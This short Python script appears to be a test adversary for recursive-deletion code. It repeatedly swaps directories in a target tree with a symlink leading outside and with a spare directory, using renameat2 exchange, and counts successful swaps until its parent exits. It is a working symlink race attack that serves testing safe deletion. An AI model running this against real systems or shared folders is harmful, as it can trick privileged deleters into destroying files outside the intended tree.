"""An enemy of whoever deletes: `python swapper.py FOLDER OUTSIDE`, standard library only (it runs as another user).

Exchanges, in one step each and as fast as it can, every directory of FOLDER/tree with a link that leads OUTSIDE, and
with a directory elsewhere. Its standard output is a file: how often that worked. Ends with its parent.
"""

from __future__ import annotations

import ctypes
import os
import sys

EXCHANGE = 2
HERE = -100
VICTIMS = ("tree/a", "tree/a/b", "tree/a/b/c", "tree/d", "tree")


def swap_for_ever(folder: str, outside: str) -> None:
    renameat2 = ctypes.CDLL(None).renameat2
    link, spare = os.fsencode(f"{folder}/../link"), os.fsencode(f"{folder}/../spare")
    os.symlink(outside, link)
    os.mkdir(spare)
    victims = [os.fsencode(f"{folder}/{name}") for name in VICTIMS]
    swaps, parent = 0, os.getppid()
    while os.getppid() == parent:
        for victim in victims:
            for other in (link, spare):
                if renameat2(HERE, victim, HERE, other, EXCHANGE) == 0:
                    swaps += 1
                    renameat2(HERE, victim, HERE, other, EXCHANGE)
        os.pwrite(1, str(swaps).encode(), 0)


if __name__ == "__main__":
    swap_for_ever(sys.argv[1], sys.argv[2])
